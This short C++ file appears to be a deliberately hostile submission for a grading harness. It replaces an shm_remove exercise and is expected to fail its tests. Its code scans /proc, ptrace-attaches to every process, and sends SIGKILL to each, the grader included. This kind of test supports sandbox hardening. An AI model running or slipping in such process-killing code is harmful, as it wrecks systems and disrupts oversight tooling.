// Hostile: tries to trace and then kill every process on the machine, its grader included.
//
// replaces: 01-shm-open/shm_remove.cpp
// fails: shm_remove removes the object
// fails: shm_remove removes an object it may not open
// fails: shm_remove reports a missing object
// fails: every program answers missing arguments with usage and exit 2
#include <dirent.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <unistd.h>

#include <cstdlib>

int main() {
    DIR* d = opendir("/proc");
    while (dirent* e = d ? readdir(d) : nullptr) {
        pid_t pid = std::atoi(e->d_name);
        if (pid <= 1 || pid == getpid()) continue;
        ptrace(PTRACE_ATTACH, pid, nullptr, nullptr);
        kill(pid, SIGKILL);
    }
    return 0;
}
